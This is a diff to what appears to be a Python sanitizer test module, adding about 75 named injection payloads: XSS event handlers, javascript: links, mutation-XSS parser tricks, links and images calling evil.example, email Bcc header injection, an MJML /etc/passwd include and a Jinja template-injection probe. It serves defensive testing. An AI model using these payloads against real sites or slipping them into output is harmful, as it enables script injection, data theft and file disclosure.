@@ -129,6 +129,82 @@ tag-name            <x-NAME onclick=alert('NAME')>x</x-NAME>
 json                "}]}</script><script>alert('NAME')</script><!--
 json-html           \\u003cscript\\u003ealert('NAME')\\u003c/script\\u003e
 attribute-clobber   <a id=document name=body href="https://clinic.example/x">x</a><img name=cookie id=location alt=x>
+handler-search      <search onclick=alert('NAME') onpointerenter=alert('NAME')>x</search>
+handler-popover     <b popover id=p1 onbeforetoggle=alert('NAME')>x</b><button popovertarget=p1 autofocus>x</button>
+handler-snap        <div onscrollsnapchange=alert('NAME') style=overflow-y:hidden><div style=scroll-snap-align:start>x</div></div>
+handler-visibility  <b oncontentvisibilityautostatechange=alert('NAME') style=display:block;content-visibility:auto>x</b>
+handler-marquee     <marquee width=1 loop=1 onfinish=alert('NAME') onstart=alert('NAME')>x</marquee>
+handler-transition  <a href=https://clinic.example/x ontransitionend=alert('NAME') style="transition:outline 1s">x</a>
+handler-unicode     <img src=x.png \u200bonerror=alert('NAME') \xa0onerror=alert('NAME')>
+handler-formfeed    <img\x0csrc=x.png\x0conerror=alert('NAME')>
+handler-backtick    <img src=`x.png` `onerror=alert('NAME')` onerror=`alert('NAME')`>
+handler-entity      <img src=x.png onerror=&#97lert('NAME')>
+handler-amp         <a href="https://clinic.example/x?a=1&quot onmouseover=alert('NAME') x=">x</a>
+entity-bare         &ltscript&gtalert('NAME')&lt/script&gt
+entity-long         &#x000003Cimg src=x.png onerror=alert('NAME')&#x000003E
+entity-twice        &amp;lt;img src=x.png onerror=alert('NAME')&amp;gt;
+entity-wide         \uff1cimg src=x.png onerror=alert('NAME')\uff1e
+line-script         <img src=x.png onerror\u2028=\u2029alert('NAME')>
+line-json           \u2028</script>\u2029<script>alert('NAME')</script>
+json-open           <!--<script>"}]}
+json-entity         &quot;}]}&lt;/script&gt;&lt;script&gt;alert('NAME')&lt;/script&gt;
+shadow-root         <div><template shadowrootmode=open><img src=x.png onerror=alert('NAME')><slot></slot></template>x</div>
+shadow-style        <div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template>x</div>
+template-nested     <template><template></template><img src=x.png onerror=alert('NAME')></template>
+noscript-style      <noscript><style></noscript><img src=x.png onerror=alert('NAME')></style>
+noscript-image      <noscript><img src=https://evil.example/NAME></noscript>
+svg-set             <svg><a><set attributeName=href to="javascript:alert('NAME')"/><text y=20>x</text></a></svg>
+svg-values          <svg><a id=x1><text y=9>x</text></a><animate href=#x1 attributeName=xlink:href from=javascript:alert('NAME') to=1 begin=0s /></svg>
+svg-begin           <svg><animate onbegin=alert('NAME') attributeName=x dur=1s /></svg>
+svg-image           <svg><image href=https://evil.example/NAME /><feImage href=https://evil.example/NAME /></svg>
+svg-style           <svg><style>@import url(https://evil.example/NAME);</style></svg>
+svg-handler         <svg><x-y><script href="data:,alert('NAME')" /></x-y></svg>
+math-href           <math href="javascript:alert('NAME')"><mi>x</mi></math>
+math-action         <math><mrow xlink:type=simple xlink:href="javascript:alert('NAME')"><mtext>x</mtext></mrow></math>
+mxss-mglyph         <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x.png onerror=alert('NAME')>"></style></h1>
+mxss-flatten        <svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x.png onerror=alert('NAME')>">
+mxss-caption        <table><caption><svg><title><table><caption></caption></table><style><a id="</style><img src=x.png onerror=alert('NAME')>">
+mxss-selectedcontent <select><button><selectedcontent></selectedcontent></button><option><img src=x.png onerror=alert('NAME')>x</option></select>
+mxss-processing     <svg><?xml-stylesheet ><img src=x.png onerror=alert('NAME')> ?></svg>
+mxss-attribute      <a title="--!><img src=x.png onerror=alert('NAME')>" lang="]]><img src=x.png onerror=alert('NAME')>">x</a>
+mxss-namespace      <math><mi><x-y></mi><style></x-y></math><img src=x.png onerror=alert('NAME')></style>
+mxss-font           <svg><font color=x><style><img title="</style><img src=x.png onerror=alert('NAME')>"></style></font></svg>
+mxss-frameset       <svg><desc><frameset><noframes></desc></svg><img src=x.png onerror=alert('NAME')></noframes>
+comment-conditional <!--[if mso]><img src=https://evil.example/NAME><![endif]--><![if !mso]><img src=x.png onerror=alert('NAME')><![endif]>
+comment-nested      <!-- <!-- --><img src=x.png onerror=alert('NAME')> -->
+link-scheme-slash   <a href="javascript://clinic.example/%0aalert('NAME')">x</a>
+link-backslash      <a href="\\\\evil.example/NAME">x</a>
+link-userinfo       <a href="https://clinic.example@evil.example/NAME">x</a>
+link-homograph      <a href="https://clin\u0456c.example/NAME">https://clinic.example/</a>
+link-bidi           <a href="https://clinic.example/\u202egpj.NAME">x</a>
+link-attribution    <a href=https://clinic.example/x attributionsrc=https://evil.example/NAME download referrerpolicy=unsafe-url>x</a>
+link-entities       <a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert('NAME')>x</a>
+link-reference      [x]: javascript:alert('NAME') "title"
+link-image          ![x](javascript:alert('NAME'))
+meta-csp            <meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer content=unsafe-url>
+meta-refresh        <meta http-equiv="refresh" content="0;url=data:text/html,<script>alert('NAME')</script>">
+base-target         <base target=_top href=javascript:/*NAME*/>
+portal              <fencedframe src=https://evil.example/NAME></fencedframe><portal src=https://evil.example/NAME></portal>
+object-param        <object type=image/svg+xml data="data:image/svg+xml,<svg onload=alert('NAME') xmlns='http://www.w3.org/2000/svg'/>"></object>
+style-import        <b style="@import url(https://evil.example/NAME);background:image-set('https://evil.example/NAME' 1x)">x</b>
+style-variable      <td style="text-align:var(--x);--x:url(https://evil.example/NAME)">x</td>
+style-cut           <td style="text-align:left;}body{display:none">x</td>
+speculation         <script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/NAME"]}]}</script>
+importmap           <script type=importmap>{"imports":{"x":"https://evil.example/NAME"}}</script>
+form-owner          <input form=x formaction=https://evil.example/NAME type=image src=https://evil.example/NAME>
+remote-preload      <link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=https://evil.example/NAME>
+remote-object       <embed src=https://evil.example/NAME><applet code=NAME codebase=https://evil.example/></applet>
+remote-imagesrc     <link rel=preload as=image imagesrcset=https://evil.example/NAME>
+header-next-line    x\x85Bcc: all@evil.example\x85X-NAME: 1
+header-paragraph    x\u2029Bcc: all@evil.example\x1cX-NAME: 1\x1d\x1e
+header-base64       =?utf-8?b?eA0KQmNjOiBhbGxAZXZpbC5leGFtcGxl?=
+mjml-attributes     " mj-class="x" href="https://evil.example/NAME"><mj-button
+mjml-include-css    <mj-include path="/etc/passwd" type="css" css-inline="inline" />
+mjml-preview        </mj-preview></mj-head><mj-body><mj-image src="https://evil.example/NAME" /></mj-body>
+template-namespace  {{ self.__init__.__globals__ }}{%- for x in range(9**9) -%}{%- endfor -%}{{ page.title.__class__.__mro__ }}
+template-line       # for x in range(9)\x0b## NAME
+bidi-isolates       \u2066\u202e12 mg\u2069 \u206834\u2067
+bidi-marks          x\u061c\u200f12 mg\u2064\u200e-\ufeff3
 """
 _DEPTH: Final = 150
 
@@ -138,7 +214,9 @@ def _attacks() -> dict[str, str]:
     for line in _ATTACKS.strip().splitlines():
         name, text = line.split(maxsplit=1)
         text = re.sub(
-            r"\\(u[0-9a-f]{4}|x[0-9a-f]{2}|0|\\)", lambda m: _character(m[1]), text
+            r"\\(u[0-9a-f]{4}|x[0-9a-f]{2}|0|\\)",
+            lambda m: _character(m[1]),
+            text,
         )
         deep = "<b><i>" * (_DEPTH // 2) + "x"
         found[name] = text.replace("DEEP", deep).replace("NAME", name)
